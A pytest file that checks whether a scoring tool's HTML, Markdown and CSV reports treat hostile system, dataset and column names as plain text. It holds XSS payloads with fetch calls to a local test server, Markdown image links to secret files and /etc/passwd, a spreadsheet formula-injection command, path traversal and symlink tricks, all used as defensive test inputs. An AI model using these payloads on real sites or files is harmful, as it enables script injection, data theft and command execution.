"""Reports treat data as text (docs/meta_eval.md, "How reports treat data").

A hostile dump (system, dataset and column names carrying HTML, script, a Markdown image of a
local secret file, matplotlib math, `..`, spreadsheet formulas, NUL and line breaks) goes through
`ctgscore meta`, `ctgscore constraints report` and `ctgscore compare -o board.html`. In headless
Chromium (`tests/browser.py`) no page runs a script of the data, none loads anything (payloads
aim at an HTTP server of this test on 127.0.0.1 that must see no request), and none embeds the
secret file; every page declares a Content-Security-Policy that lets only the page's own inline
style and script run; the CSV starts no text cell with a formula character; nothing is written
outside the report folder, and symlinks at the report's file names are replaced, not followed.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import http.server
import json
import re
import threading

import numpy as np
import pandas as pd
import pytest
from markdown_it import MarkdownIt

from ctgscore.testing.cli import run_cli_in_process
from meta_eval.report.files import append_line, safe_name, subfolder, write_text
from meta_eval.report.html import render
from scoring.codi import TASKS
from scoring.tables import markdown_code, markdown_text, spreadsheet_cell

MARKER = "SECRET-MARKER-4F2A9C"
PWNED = "document.title='pwned';window.__pwned=1"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (the http.server name)
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def server():
    """An HTTP server on 127.0.0.1 that records every request: the payloads' only target."""
    handler = type("Recorder", (_Recorder,), {"hits": []})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", handler.hits
    httpd.shutdown()
    httpd.server_close()


def payload_names(url: str, secret) -> tuple[list[str], list[str], list[str]]:
    """(systems, datasets, metric columns) an attacker would name."""
    systems = [f"A<img src=x onerror=\"{PWNED};fetch('{url}/onerror')\">",
               f"B![x]({secret})",
               f"B2![x](../{secret.name})",
               f"C</style><script>{PWNED}</script><script src=\"{url}/script.js\"></script>",
               f"D<link rel=stylesheet href=\"{url}/style.css\"><img src=\"{url}/img.png\">",
               f"E![remote]({url}/md.png)",
               "=cmd|' /C calc'!A0",
               "$\\frac{a}{b}$",
               "$\\unbalanced{",
               "-1",
               "@SUM(1)",
               "+x",
               "_underscore",
               "NUL\x00and\nnewline`code`"]
    datasets = [f"d<svg onload=\"{PWNED};fetch('{url}/svg')\">", "..", "$x$/../../up", "report.html"]
    metrics = [f"m<img src={url}/metric.png>", "m$x^2$"]
    return systems, datasets, metrics


def hostile_scores(path, url: str, secret) -> pd.DataFrame:
    systems, datasets, metrics = payload_names(url, secret)
    rng = np.random.default_rng(7)
    rows = [{"id": f"r{k}", "dataset": d, "system": s, "doc_id": f"doc{doc}"}
            for k, (d, s, doc) in enumerate((d, s, doc) for d in datasets for s in systems for doc in range(5))]
    frame = pd.DataFrame(rows)
    frame["human_coherence"] = rng.normal(size=len(frame))
    frame[f"human_<i onmouseover=\"{PWNED}\">q"] = rng.normal(size=len(frame))
    frame[metrics[0]] = frame["human_coherence"] + rng.normal(size=len(frame))
    frame[metrics[1]] = rng.normal(size=len(frame)) - 3.0  # negative numbers that must stay numbers
    frame["error"] = None
    frame.to_parquet(path, index=False)
    return frame


def hostile_codi(rows_path, scores_path, url: str, secret) -> None:
    systems, _, _ = payload_names(url, secret)
    rng = np.random.default_rng(3)
    rows, scores = [], []
    for system in systems[:7]:
        for task in TASKS:
            for k in range(2):
                row_id = f"{len(rows)}"
                constraint = {"task": task, **({"context_id": f"c{k}"} if task == "detoxic" else {})}
                rows.append({"id": row_id, "system": system, "doc_id": f"d{k}", "constraint": json.dumps(constraint),
                             "text": f"text {k} {system} <script>{PWNED}</script>"})
                scores.append({"id": row_id, "codi_success": float(rng.integers(0, 2)),
                               "codi_toxicity": float(rng.random()), "error": None,
                               "signature": f"metric:codi|v:1|`<img src={url}/sig.png>`"})
    pd.DataFrame(rows).to_parquet(rows_path, index=False)
    pd.DataFrame(scores).to_parquet(scores_path, index=False)


@pytest.fixture(scope="module")
def reports(tmp_path_factory, server):
    """The three commands run on the hostile dump. Their folders start with symlinks at the file
    names the reports write, each pointing at a file outside that must stay as it is."""
    url, _ = server
    root = tmp_path_factory.mktemp("hostile")
    secret = root / "secret.txt"
    secret.write_text(MARKER + "\n")
    outside = root / "outside"
    outside.mkdir()
    scores = root / "scores.parquet"
    frame = hostile_scores(scores, url, secret)
    meta_dir, codi_dir = root / "parent" / "meta", root / "codi"
    targets = {}
    for folder, names in ((meta_dir, ["report.html", "leaderboard.html", "leaderboard.csv", "report.md"]),
                          (codi_dir, ["report.html"]), (root, ["board.html"])):
        folder.mkdir(parents=True, exist_ok=True)
        for name in names:
            target = outside / f"{folder.name}-{name}"
            target.write_text("TARGET\n")
            (folder / name).symlink_to(target)
            targets[folder / name] = target
    plot_target = outside / "plots"  # a symlink where the first dataset's plot folder goes
    plot_target.mkdir()
    (meta_dir / safe_name(frame["dataset"].iloc[0])).symlink_to(plot_target, target_is_directory=True)
    meta = run_cli_in_process(["meta", "-s", scores, "-o", meta_dir, "--resamples", "20", "--trials", "50"])
    rows, codi_scores = root / "rows.parquet", root / "codi_scores.parquet"
    hostile_codi(rows, codi_scores, url, secret)
    codi = run_cli_in_process(["constraints", "report", "-i", rows, "--scores", codi_scores, "-o", codi_dir])
    board = run_cli_in_process(["compare", "-s", scores, "-o", root / "board.html", "--resamples", "20",
                                "--trials", "50"])
    csv_out = run_cli_in_process(["compare", "-s", scores, "-o", root / "board.csv", "--resamples", "20",
                                  "--trials", "50"])
    return {"root": root, "secret": secret, "frame": frame, "meta": meta, "codi": codi, "board": board,
            "csv": csv_out, "meta_dir": meta_dir, "codi_dir": codi_dir, "targets": targets, "plot_target": plot_target,
            "pages": [meta_dir / "report.html", meta_dir / "leaderboard.html", codi_dir / "report.html",
                      root / "board.html"]}


def test_hostile_names_do_not_fail_the_reports(reports):
    for name in ("meta", "codi", "board", "csv"):
        result = reports[name]
        assert result.returncode == 0, (name, result.stderr[-2000:])
    meta_dir = reports["meta_dir"]
    datasets = set(reports["frame"]["dataset"])
    assert len([p for p in meta_dir.iterdir() if p.is_dir()]) == len(datasets)  # one plot folder each
    assert len(list(meta_dir.rglob("*.png"))) >= 3 * len(datasets)
    assert (reports["codi_dir"] / "codi_accuracy.png").stat().st_size > 1000


def test_names_are_text_in_every_markdown_and_page(reports):
    md = (reports["meta_dir"] / "report.md").read_text()
    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    inline = [c for t in tokens for c in t.children or ()]
    images = [str(c.attrGet("src")) for c in inline if c.type == "image"]
    assert images and all((reports["meta_dir"] / src).is_file() and ":" not in src and ".." not in src
                          for src in images)  # only the plots the report wrote
    assert not [c for c in inline if c.type in ("link_open", "html_inline")]
    assert not [t for t in tokens if t.type == "html_block" and "details" not in t.content]
    for page in reports["pages"]:
        text = page.read_text()
        for tag in ("<script src", "<img src=x", "<svg onload", "<link", "<i onmouseover", "onerror=\""):
            assert tag not in text, (page.name, tag)
        assert len(re.findall(r"<script\b", text)) == 1, page  # the page's own sort script only


def _policy(text: str) -> str:
    found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
    assert len(found) == 1
    assert text.index(found[0]) < text.index("<style>")  # declared before anything it governs
    return html.unescape(found[0])


def _sha(block: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(block.encode()).digest()).decode() + "'"


def test_every_page_has_a_csp_that_allows_only_its_own_inline_blocks(reports):
    for page in reports["pages"]:
        text = page.read_text()
        policy = dict(part.strip().split(" ", 1) for part in _policy(text).split(";"))
        assert policy["default-src"] == "'none'" and policy["img-src"] == "data:"
        assert policy["base-uri"] == "'none'" and policy["form-action"] == "'none'"
        assert "unsafe" not in " ".join(policy.values()) and "http" not in " ".join(policy.values())
        scripts = re.findall(r"<script>(.*?)</script>", text, re.S)
        styles = re.findall(r"<style>(.*?)</style>", text, re.S)
        assert set(policy["script-src"].split()) == {_sha(s) for s in scripts}
        assert set(policy["style-src"].split()) == {_sha(s) for s in styles}
        assert not re.search(r"\sstyle=", text), page  # inline style attributes would be refused


def test_no_local_file_is_embedded(reports):
    secret_b64 = base64.b64encode(reports["secret"].read_bytes()).decode()
    written = {p.read_bytes() for p in reports["root"].rglob("*.png")}
    for path in reports["pages"] + [reports["meta_dir"] / "report.md", reports["codi_dir"] / "report.md"]:
        text = path.read_text()
        assert MARKER not in text and secret_b64[:24] not in text, path
        for uri in re.findall(r'src="data:([^"]*)"', text):
            kind, data = uri.split(",", 1)
            assert kind == "image/png;base64" and base64.b64decode(data) in written  # only the report's plots


def test_csv_starts_no_text_cell_with_a_formula_character(reports):
    for path in (reports["meta_dir"] / "leaderboard.csv", reports["root"] / "board.csv"):
        with open(path, newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert rows
        for row in rows:
            assert not any(row[name].startswith(FORMULA) for name in ("dataset", "column", "system")), row
            for name in ("mean", "low", "high", "rank", "n_units"):
                float(row[name])  # numbers stay numbers (a negative one keeps its sign)
        systems = {row["system"] for row in rows}
        assert {"'=cmd|' /C calc'!A0", "'-1", "'@SUM(1)", "'+x"} <= systems
        assert any(float(row["mean"]) < 0 for row in rows)  # negative means are numbers, not neutralised


def test_dotdot_and_slash_names_write_nothing_outside_the_report_folder(reports):
    meta_dir = reports["meta_dir"]
    assert sorted(p.name for p in meta_dir.parent.iterdir()) == ["meta"]
    for path in meta_dir.rglob("*"):
        assert path.resolve().is_relative_to(meta_dir.resolve()), path
    folders = {p.name for p in meta_dir.iterdir() if p.is_dir()}
    assert len(folders) == len(set(reports["frame"]["dataset"]))
    assert {safe_name(d) for d in set(reports["frame"]["dataset"])} - folders == {"report.html"}
    assert not {".", ".."} & folders and (meta_dir / "report.html").is_file()  # the dataset did not take its name


def test_symlinks_at_report_files_are_replaced_and_their_targets_untouched(reports):
    for link, target in reports["targets"].items():
        assert target.read_text() == "TARGET\n", target
        assert not link.is_symlink() and link.stat().st_size > len("TARGET\n"), link
    assert list(reports["plot_target"].iterdir()) == []
    folder = reports["meta_dir"] / safe_name(reports["frame"]["dataset"].iloc[0])
    assert not folder.is_symlink() and len(list(folder.glob("*.png"))) >= 3


def test_writes_replace_symlinks_and_never_follow_them(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "t").write_text("TARGET")
    for name in ("board.html", "history.jsonl"):
        (tmp_path / name).symlink_to(outside / "t")
    (tmp_path / "history").symlink_to(outside, target_is_directory=True)
    write_text(tmp_path / "board.html", "page")
    append_line(tmp_path / "history.jsonl", "{}")
    append_line(tmp_path / "history.jsonl", "{}")
    folder = subfolder(tmp_path, "history")
    assert (outside / "t").read_text() == "TARGET" and sorted(p.name for p in outside.iterdir()) == ["t"]
    assert (tmp_path / "board.html").read_text() == "page" and not (tmp_path / "board.html").is_symlink()
    assert (tmp_path / "history.jsonl").read_text() == "{}\n{}\n"
    assert folder.is_dir() and not folder.is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["board.html", "history", "history.jsonl", "outside"]


def _open_all(pages, url: str):
    """Each page in headless Chromium: (title, pwned flag, whether the page's own sort script ran,
    its textContent (folded parts too); requests other than the page itself and data: URIs, with
    those that failed; console messages)."""
    from playwright.sync_api import sync_playwright

    browser_helper = pytest.importorskip("tests.browser")
    out = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=browser_helper.chromium_path(),
                                     args=browser_helper.CHROMIUM_FLAGS)
        try:
            for path in pages:
                page = browser.new_page()
                requests, failed, console = [], [], []
                page.on("request", lambda r, rs=requests: rs.append(r.url))
                page.on("requestfailed", lambda r, fs=failed: fs.append(r.url))
                page.on("console", lambda m, cs=console: cs.append(m.text))
                page.goto(path.resolve().as_uri(), wait_until="load")
                page.wait_for_timeout(300)
                info = page.evaluate("""() => ({title: document.title, pwned: window.__pwned === 1,
                    sorted: Array.from(document.querySelectorAll('th')).some(th => th.title === 'sort by this column'),
                    text: document.body.textContent})""")
                own = path.resolve().as_uri()
                others = [u for u in requests if u != own and not u.startswith("data:")]
                out.append((info, (others, failed), console))
                page.close()
        finally:
            browser.close()
    return out


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_pages_run_no_data_script_and_load_nothing_in_chromium(reports, server):
    url, hits = server
    results = _open_all(reports["pages"], url)
    for path, (info, others, console) in zip(reports["pages"], results):
        assert info["title"] != "pwned" and not info["pwned"], path
        assert info["sorted"], path  # the page's own script runs under its policy
        assert others == ([], []), (path, others)
        assert not [m for m in console if "Content Security Policy" in m], (path, console)
        assert MARKER not in info["text"]
    report_text = results[0][0]["text"]
    assert "A<img src=x onerror=" in report_text and "d<svg onload=" in report_text  # shown as text
    assert "$\\frac{a}{b}$" in report_text and f"B![x]({reports['secret']})" in report_text
    assert "C</style><script>" in results[2][0]["text"]  # the CoDI page shows the name too
    assert hits == []


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_the_policy_stops_markup_that_escaping_would_have_missed(reports, server, tmp_path):
    """Defence in depth: script and loads pasted raw into a generated page do not run."""
    url, hits = server
    injected = (f"<script>{PWNED}</script><img src=\"{url}/raw-img\"><img src=x onerror=\"{PWNED}\">"
                f"<link rel=stylesheet href=\"{url}/raw-css\"><style>body{{background:url({url}/raw-bg)}}</style>"
                f"<iframe src=\"{url}/raw-frame\"></iframe>")
    page = tmp_path / "tampered.html"
    page.write_text(reports["pages"][0].read_text().replace('<body class="sortable-all">',
                                                            '<body class="sortable-all">' + injected, 1))
    (info, (tried, failed), console), = _open_all([page], url)
    assert info["title"] != "pwned" and not info["pwned"] and info["sorted"]
    assert hits == [] and sorted(tried) == sorted(failed)  # every load the markup tried was refused
    assert any("Content Security Policy" in m for m in console)  # refused, and said so


HOSTILE = ["A<img src=x onerror=alert(1)>", "B![x](/proc/self/environ)", "[l](javascript:alert(1))",
           "<http://127.0.0.1:9/a>", "_em_ *em* ~~s~~", "a\\[b]", "1. item", "- item", "# head", "> quote",
           "&amp; &#60;", "`code` ``x``", "| pipe |", "x\ny\r\x00z", "human_coherence", "[ref]: /etc/passwd"]


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_text_and_code_render_exactly_the_value(value):
    md = MarkdownIt("commonmark", {"html": True}).enable("table")  # even with raw HTML on
    shown = re.sub(r"[\x00-\x1f]", lambda m: repr(m.group())[1:-1], value)  # a control shows as its escape
    assert md.render(markdown_text(value)) == f"<p>{html.escape(shown, quote=True).replace('&#x27;', chr(39))}</p>\n"
    code = md.render(markdown_code(value))
    assert code == f"<p><code>{html.escape(shown, quote=True).replace('&#x27;', chr(39))}</code></p>\n"


def test_safe_name_keeps_plain_names_and_slugs_the_rest():
    assert safe_name("summeval") == "summeval" and safe_name("ctrleval_senti") == "ctrleval_senti"
    hostile = ["..", ".", "a/b", "../x", "x\x00y", "", ".hidden", "a" * 200, "dir\\x", "x" * 64 + "y"]
    names = [safe_name(v) for v in hostile]
    assert len(set(names)) == len(hostile)  # different names, different files
    for name in names:
        assert name not in (".", "..") and not name.startswith(".") and "/" not in name and "\x00" not in name
        assert len(name) <= 64 and name == safe_name(hostile[names.index(name)])


def test_spreadsheet_cell_changes_only_text_starting_with_a_formula_character():
    assert [spreadsheet_cell(v) for v in ["=1+1", "+1", "-x", "@a", "\tx", "\rx", "ok", "a=b"]] == [
        "'=1+1", "'+1", "'-x", "'@a", "'\tx", "'\rx", "ok", "a=b"]
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) is None


def test_render_embeds_only_the_images_it_is_given(tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG" + MARKER.encode())
    own = tmp_path / "own.png"
    own.write_bytes(b"\x89PNG own")
    (tmp_path / "link.png").symlink_to(secret)
    text = (f"# R\n\n![own](own.png)\n\n![s](secret.png)\n\n![abs]({secret})\n\n![l](link.png)\n\n"
            "![gone](missing.png)\n\n<script>x()</script>\n\n"
            "<details><summary>3 rows</summary>\n\nbody\n\n</details>\n")
    page = render(text, tmp_path, images=["own.png", "link.png", "missing.png"])
    assert base64.b64encode(own.read_bytes()).decode() in page
    assert MARKER not in page and base64.b64encode(secret.read_bytes()).decode()[:16] not in page
    assert page.count("<img") == 1 and page.count("image not embedded") == 4
    assert "&lt;script&gt;x()&lt;/script&gt;" in page and "<details><summary>3 rows</summary>" in page


def test_aligned_tables_use_classes_not_style_attributes(tmp_path):
    page = render("| run | score |\n|---|---:|\n| bleu | 1.5 |\n", tmp_path)
    assert '<td class="al-right">1.5</td>' in page and '<th class="al-right">score</th>' in page
    assert " style=" not in page
